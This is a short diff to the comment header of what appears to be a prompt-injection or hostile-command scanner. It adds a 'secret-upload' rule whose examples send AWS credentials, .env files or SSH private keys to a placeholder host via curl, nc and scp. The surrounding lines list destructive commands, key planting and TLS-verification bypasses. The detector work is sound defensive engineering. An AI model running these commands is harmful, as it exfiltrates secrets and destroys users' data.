@@ -21,6 +21,8 @@
 //                                      `iwr ... | iex`)
 //   injection/ssh-key-plant   warning  a write into authorized_keys, or a key on the line that names it
 //   injection/destructive-command warning `rm -rf ~` or `/`, mkfs/dd onto a disk, a fork bomb, `chmod -R 777 /`
+//   injection/secret-upload   warning  key files, cloud logins, .env or the environment sent elsewhere (`curl -d @~/.aws/credentials`,
+//                                      `cat .env | nc HOST PORT`, `scp ~/.ssh/id_rsa HOST:`); public keys (.pub) are not
 //   injection/verification-off warning NODE_TLS_REJECT_UNAUTHORIZED=0, http.sslVerify false, StrictHostKeyChecking no
 //   injection/model           warning  a passage the learned detector scores at or above the threshold
 //                                      (docs/injection-model.md), where no injection rule fired
